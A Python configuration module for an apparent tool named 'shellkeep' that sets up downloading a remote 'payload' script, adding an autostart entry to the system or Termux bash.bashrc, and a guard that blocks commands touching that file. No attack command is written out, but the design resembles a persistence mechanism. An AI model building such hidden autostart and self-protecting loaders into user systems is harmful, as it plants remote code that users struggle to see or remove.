"""Global configuration — loaded from environment variables.

Built once per process and passed down explicitly. Nothing here is
persisted: every shell session re-reads the environment.
"""

from __future__ import annotations

import os
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from pydantic import model_validator
from pydantic_settings import BaseSettings

TERMUX_PREFIX = "/data/data/com.termux/files/usr"
RC_RELATIVE = Path("etc") / "bash.bashrc"
SYSTEM_RC = Path("/etc/bash.bashrc")
TRANSPORTS = ("auto", "httpx", "curl", "wget")


def _default_prefix() -> str:
    prefix = os.environ.get("PREFIX", "")
    if prefix:
        return prefix
    if os.path.isdir(TERMUX_PREFIX):
        return TERMUX_PREFIX
    return ""


def _default_python() -> str:
    for name in ("python3", "python"):
        found = shutil.which(name)
        if found:
            return found
    return ""


@dataclass(frozen=True)
class WorkerDescriptor:
    """What the supervisor needs to find or start the worker."""

    payload_path: Path
    python_bin: str
    enabled: bool = True


class KeepSettings(BaseSettings):
    prefix: str = ""
    home: Path = Path.home()
    payload_path: Path = Path()
    python_bin: str = ""
    autostart: bool = True

    # Payload download
    download_url: str = ""  # empty = skip the download step
    transport: str = "auto"  # auto|httpx|curl|wget
    retry_delay: float = 5.0
    connect_timeout: float = 20.0
    max_time: float = 300.0

    # Shell initialization file
    rc_path: Path | None = None  # None = discover under prefix, then /etc
    tag: str = "SHELLKEEP_AUTOSTART"

    # Command guard
    protected_path: Path | None = None  # None = the rc file itself

    log_level: str = "WARNING"

    model_config = {"env_prefix": "SHELLKEEP_", "frozen": True}

    @model_validator(mode="before")
    @classmethod
    def _resolve_defaults(cls, data: Any) -> Any:
        if not isinstance(data, dict):
            return data
        data = dict(data)
        if not data.get("prefix"):
            data["prefix"] = _default_prefix()
        home = data.get("home") or os.environ.get("HOME") or str(Path.home())
        data["home"] = home
        if not data.get("payload_path"):
            data["payload_path"] = str(Path(home) / "worker.py")
        if not data.get("python_bin"):
            data["python_bin"] = _default_python()
        if data.get("transport") and data["transport"] not in TRANSPORTS:
            raise ValueError(
                f"transport must be one of {', '.join(TRANSPORTS)}, got {data['transport']!r}"
            )
        return data

    def worker(self) -> WorkerDescriptor:
        return WorkerDescriptor(
            payload_path=self.payload_path,
            python_bin=self.python_bin,
            enabled=self.autostart,
        )

    def rc_candidates(self) -> list[Path]:
        """Where to look for the shell initialization file, in order."""
        if self.rc_path is not None:
            return [self.rc_path]
        candidates = []
        if self.prefix:
            candidates.append(Path(self.prefix) / RC_RELATIVE)
        candidates.append(SYSTEM_RC)
        return candidates

    def resolve_rc_path(self) -> Path | None:
        """First existing candidate, or None."""
        for candidate in self.rc_candidates():
            if candidate.is_file():
                return candidate
        return None

    def guarded_path(self) -> Path:
        """The file the command guard refuses to touch."""
        if self.protected_path is not None:
            return self.protected_path
        return self.resolve_rc_path() or self.rc_candidates()[0]


def load_settings(**overrides: Any) -> KeepSettings:
    """Read settings from the environment, applying explicit overrides."""
    return KeepSettings(**overrides)
